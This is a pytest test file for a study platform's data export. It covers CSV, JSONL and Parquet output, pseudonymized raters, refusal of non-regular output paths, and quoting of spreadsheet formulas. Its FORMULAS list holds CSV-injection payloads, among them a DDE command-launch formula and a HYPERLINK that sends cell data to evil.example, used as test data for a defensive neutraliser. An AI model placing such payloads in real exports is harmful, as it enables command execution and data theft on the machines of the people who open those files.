"""Exports: every kind in every format, pseudonymized raters, clean refusals."""

import json
from pathlib import Path

import pandas as pd
import pytest
from sqlmodel import Session, select

from db.bundle.importer import import_bundle
from db.engine import engine_for
from db.export import COLUMNS, export
from db.models import (
    Assignment,
    AssignmentDesign,
    CollectedResponse,
    CollectionRun,
    Exam,
    ExamAttempt,
    ExpertScore,
    GraderConfig,
    GraderRun,
    GraderScore,
    Response,
    Rubric,
    StageAnswer,
    User,
    utcnow,
)
from errors import UserError
from tests.db.bundle.bundles import write_bundle


def _study(url: str, tmp_path: Path) -> None:
    """The base bundle plus one expert score, one grader score, one exam answer, one human
    response."""
    eng = engine_for(url)
    with Session(eng) as s:
        import_bundle(s, write_bundle(tmp_path / "b"))
    with Session(eng) as s:
        expert = User(name="dr-house", role="expert", password_hash="x")
        student = User(name="student-1", role="student", password_hash="x")
        rubric = Rubric(rubric_id="neurology", version="1", content_hash="h" * 64, source_text="")
        s.add_all([expert, student, rubric])
        s.flush()
        design = AssignmentDesign(rubric_hash=rubric.content_hash, selection="all", overlap=1,
                                  seed=0)
        config = GraderConfig(config_hash="c" * 64, name="gpt-4o-v1", model="gpt-4o",
                              prompt_version="1", rubric_hash=rubric.content_hash)
        exam = Exam(name="Final", task_ids=["t1"])
        s.add_all([design, config, exam])
        s.flush()
        assignment = Assignment(design_id=design.id, rater_id=expert.id,
                                response_id="model-a-t1-0", position=0)
        run = GraderRun(config_id=config.id, items="all")
        attempt = ExamAttempt(exam_id=exam.id, user_id=student.id)
        s.add_all([assignment, run, attempt])
        s.flush()
        s.add_all([
            ExpertScore(assignment_id=assignment.id, rubric_hash=rubric.content_hash,
                        status="submitted", criteria={"accuracy": 3, "safety": None},
                        correct_diagnosis=True, error_tags=["anchoring"], overall=2.5,
                        submitted_at=utcnow()),
            GraderScore(config_id=config.id, response_id="model-a-t1-0", run_id=run.id,
                        request_hash="r" * 64, criteria={"accuracy": 2},
                        correct_diagnosis=False, error_tags=[], overall=2.0),
            StageAnswer(attempt_id=attempt.id, task_id="t1", stage=0, text="stroke",
                        seconds=12.5),
            Response(response_id="human-1", task_id="t1", source="student",
                     user_id=student.id, sample=0, text="stroke", blind_code="H-1"),
        ])
        collection = CollectionRun(model="model-a", template_version="v1", template_hash="t")
        s.add(collection)
        s.flush()
        s.add(CollectedResponse(response_id="model-a-t1-0", run_id=collection.id,
                                template_version="v1", template_hash="t", request_hashes=["q"],
                                image_sha256=["i1", "i2"], prompt_tokens=900,
                                completion_tokens=120))
        s.get(Response, "model-b-t2-1").usage = {"prompt_tokens": 10, "cost_usd": 0.5}
        s.commit()


def _read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path)
    if fmt == "jsonl":
        return pd.read_json(path, lines=True)
    return pd.read_parquet(path)


@pytest.mark.slow
def test_every_kind_in_every_format(database_url: str, tmp_path: Path) -> None:
    _study(database_url, tmp_path)
    expected = {"responses": 13, "tasks": 3, "expert-scores": 1, "grader-scores": 1,
                "exam-answers": 1, "agreement": 2}
    with Session(engine_for(database_url)) as s:
        for kind, n in expected.items():
            for fmt in ("csv", "jsonl", "parquet"):
                out = tmp_path / f"{kind}.{fmt}"
                assert export(s, kind, fmt=fmt, out=out) == n
                df = _read(out, fmt)
                assert list(df.columns) == list(COLUMNS[kind]) and len(df) == n, (kind, fmt)
        resp = {fmt: _read(tmp_path / f"responses.{fmt}", fmt).set_index("response_id")
                for fmt in ("csv", "jsonl", "parquet")}
    # model names and blind codes meet here, and nowhere else
    assert resp["csv"].loc["model-b-t2-1", "model"] == "model-b"
    assert resp["csv"].loc["model-b-t2-1", "blind_code"].startswith("R-")
    assert json.loads(resp["csv"].loc["model-a-t3-0", "turns"]) == ["turn 0", "turn 1"]
    assert resp["jsonl"].loc["model-a-t3-0", "turns"] == ["turn 0", "turn 1"]
    assert list(resp["parquet"].loc["model-a-t3-0", "turns"]) == ["turn 0", "turn 1"]
    assert resp["jsonl"].loc["model-a-t1-0", "usage"] == {  # from its collection
        "prompt_tokens": 900, "completion_tokens": 120, "images": 2}
    assert json.loads(resp["csv"].loc["model-b-t2-1", "usage"]) == {  # from its bundle
        "prompt_tokens": 10, "cost_usd": 0.5}
    human = resp["jsonl"].loc["human-1"]
    assert human["source"] == "student" and human["user"].startswith("user-")
    assert pd.isna(human["model"])
    expert = pd.read_json(tmp_path / "expert-scores.jsonl", lines=True).iloc[0]
    assert expert["rater"].startswith("rater-") and expert["criteria"]["accuracy"] == 3
    assert "dr-house" not in (tmp_path / "expert-scores.csv").read_text()


def test_reveal_raters_and_pseudonyms(sqlite_url: str, tmp_path: Path) -> None:
    _study(sqlite_url, tmp_path)
    with Session(engine_for(sqlite_url)) as s:
        export(s, "expert-scores", fmt="csv", out=tmp_path / "hidden.csv")
        export(s, "exam-answers", fmt="csv", out=tmp_path / "exam.csv", reveal_raters=True)
        export(s, "expert-scores", fmt="csv", out=tmp_path / "named.csv", reveal_raters=True)
    assert pd.read_csv(tmp_path / "named.csv")["rater"].tolist() == ["dr-house"]
    assert pd.read_csv(tmp_path / "exam.csv")[["user", "role"]].values.tolist() \
        == [["student-1", "student"]]
    assert pd.read_csv(tmp_path / "hidden.csv")["rater"].iloc[0].startswith("rater-")


def test_empty_study_exports_a_header(sqlite_url: str, tmp_path: Path) -> None:
    with Session(engine_for(sqlite_url)) as s:
        assert export(s, "grader-scores", fmt="csv", out=tmp_path / "g.csv") == 0
        assert export(s, "responses", fmt="parquet", out=tmp_path / "r.parquet") == 0
    assert list(pd.read_csv(tmp_path / "g.csv").columns) == list(COLUMNS["grader-scores"])


def test_a_pipe_or_device_at_out_is_refused_not_replaced(sqlite_url: str, tmp_path: Path) -> None:
    """`nmb export responses --out /dev/full`, run as root, renamed the CSV over the device: /dev/full
    became a regular file (so would /dev/stdout, a link, or a named pipe a script reads). What is
    at --out and is not a regular file is refused and left as it was (`db.files.new_partial`)."""
    import os
    import stat

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with Session(engine_for(sqlite_url)) as s, pytest.raises(
            UserError, match=f"^cannot write {pipe}: it is not a regular file"):
        export(s, "responses", fmt="csv", out=pipe)
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)


@pytest.mark.parametrize(("kind", "fmt", "out", "message"), [
    ("answers", "csv", "x.csv", "unknown export kind 'answers'"),
    ("responses", "xlsx", "x.xlsx", "unknown export format 'xlsx'"),
    ("responses", "csv", "missing-folder/x.csv", "cannot write"),
    ("responses", "csv", ".", "is a folder"),
])
def test_bad_requests_are_user_errors(sqlite_url: str, tmp_path: Path, kind, fmt, out,
                                      message) -> None:
    with Session(engine_for(sqlite_url)) as s, pytest.raises(UserError, match=message):
        export(s, kind, fmt=fmt, out=tmp_path / out)
    assert not any(p.name.endswith(".tmp") for p in tmp_path.rglob("*"))


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1",
            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            # a spreadsheet skips blanks and control characters before the formula (issue 22)
            "  =1+1", " \t@SUM(A1:A9)", "\n-2+3", "\u200b=1+1", "\u00a0+1", "\u3000\uff1d1+1"]


@pytest.mark.slow
def test_csv_cells_that_would_run_as_formulas_are_quoted(sqlite_url: str, tmp_path: Path) -> None:
    """OWASP CSV injection rule for text cells; numbers (even negative) stay numbers;
    JSONL and Parquet keep the text as it is."""
    import csv

    _study(sqlite_url, tmp_path)
    with Session(engine_for(sqlite_url)) as s:
        student = s.exec(User.__table__.select().where(User.name == "student-1")).first()
        s.add_all([Response(response_id=f"evil-{i}", task_id="t1", source="student",
                            user_id=student.id, sample=i + 1, text=text, blind_code=f"H-E{i}")
                   for i, text in enumerate(FORMULAS)])
        score = s.exec(GraderScore.__table__.select()).first()
        s.get(GraderScore, score.id).latency_s = -1.5  # a negative number, not text
        s.commit()
        for fmt in ("csv", "jsonl", "parquet"):
            export(s, "responses", fmt=fmt, out=tmp_path / f"r.{fmt}")
        export(s, "grader-scores", fmt="csv", out=tmp_path / "g.csv")
    with open(tmp_path / "r.csv", newline="") as f:
        cells = {row["response_id"]: row["text"] for row in csv.DictReader(f)}
    assert [cells[f"evil-{i}"] for i in range(len(FORMULAS))] == ["'" + t for t in FORMULAS]
    assert cells["human-1"] == "stroke"
    with open(tmp_path / "g.csv", newline="") as f:
        assert next(csv.DictReader(f))["latency_s"] == "-1.5"
    for fmt in ("jsonl", "parquet"):
        text = _read(tmp_path / f"r.{fmt}", fmt).set_index("response_id")["text"]
        assert [text[f"evil-{i}"] for i in range(len(FORMULAS))] == FORMULAS


def test_leading_blanks_alone_are_not_quoted() -> None:
    from db.export import neutralise

    assert [neutralise(v) for v in ["  plain", " \t1 mm", "\u200bx", "a=1", "", "  ", -1.5, 3]] == [
        "  plain", " \t1 mm", "\u200bx", "a=1", "", "  ", -1.5, 3]


def test_a_model_named_like_a_formula_is_quoted_in_every_csv(sqlite_url: str,
                                                              tmp_path: Path) -> None:
    """`"  =1+1"` as a model name (a study from before names were checked): quoted in
    `nmb export` and in the results CSV, which share `neutralise`."""
    import csv

    from results.publish.tables import Table, csv_text

    _study(sqlite_url, tmp_path)
    with Session(engine_for(sqlite_url)) as s:
        s.add(Response(response_id="evil-model", task_id="t1", source="model", model="  =1+1",
                       sample=7, text="stroke", blind_code="R-EVIL"))
        s.commit()
        export(s, "responses", fmt="csv", out=tmp_path / "r.csv")
    with open(tmp_path / "r.csv", newline="") as f:
        models = {row["response_id"]: row["model"] for row in csv.DictReader(f)}
    assert models["evil-model"] == "'  =1+1" and models["model-a-t1-0"] == "model-a"
    table = Table("overall", "Overall", ["model", "n"], [["  =1+1", 3], ["\u200b-2+3", -1]])
    assert list(csv.reader(csv_text(table).splitlines())) == [
        ["model", "n"], ["'  =1+1", "3"], ["'\u200b-2+3", "-1"]]


@pytest.mark.slow
def test_every_csv_writer_uses_the_one_neutraliser() -> None:
    """Each project module that writes CSV (`csv.writer`, `DataFrame.to_csv`) goes through
    `db.export.neutralise`, so one rule decides which cells are quoted."""
    root = Path(__file__).resolve().parents[2]
    writers = [p for p in root.rglob("*.py")
               if not {"tests", "benchmarks", ".venv"} & set(p.relative_to(root).parts)
               and (".to_csv(" in (text := p.read_text()) or "csv.writer(" in text)]
    assert {p.relative_to(root).as_posix() for p in writers} == {
        "db/export.py", "results/publish/tables.py"}
    assert all("neutralise(" in p.read_text() for p in writers)


def test_the_agreement_export_is_what_nmb_agreement_reads(demo_study: Path, tmp_path: Path) -> None:
    """`nmb export agreement` then `nmb agreement FILE --reference grader-N` on the demo: one
    row per submitted expert score and per grade, and the statistics come out."""
    from calibration.agreement_csv import agreement_from_csv
    from db.engine import session
    from db.models import ExpertScore, GraderConfig, GraderScore

    out = tmp_path / "ratings.csv"
    with session() as s:
        n = export(s, "agreement", fmt="csv", out=out)
        submitted = len(s.exec(select(ExpertScore).where(ExpertScore.status == "submitted")).all())
        grades = len(s.exec(select(GraderScore)).all())
        config = s.exec(select(GraderConfig)).one()
    assert n == submitted + grades and submitted and grades
    table = pd.read_csv(out)
    assert set(table["part"].dropna()) == {"dev", "heldout"}
    stats = agreement_from_csv(out, reference=f"grader-{config.id}", bootstrap=200, seed=0)
    assert stats["n_items"] > 50 and stats["n_ratings"] == n
    assert stats["reference"]["rater"] == f"grader-{config.id}"
    assert stats["reference"]["pearson"]["r"] > 0.5  # the demo's grader tracks its experts
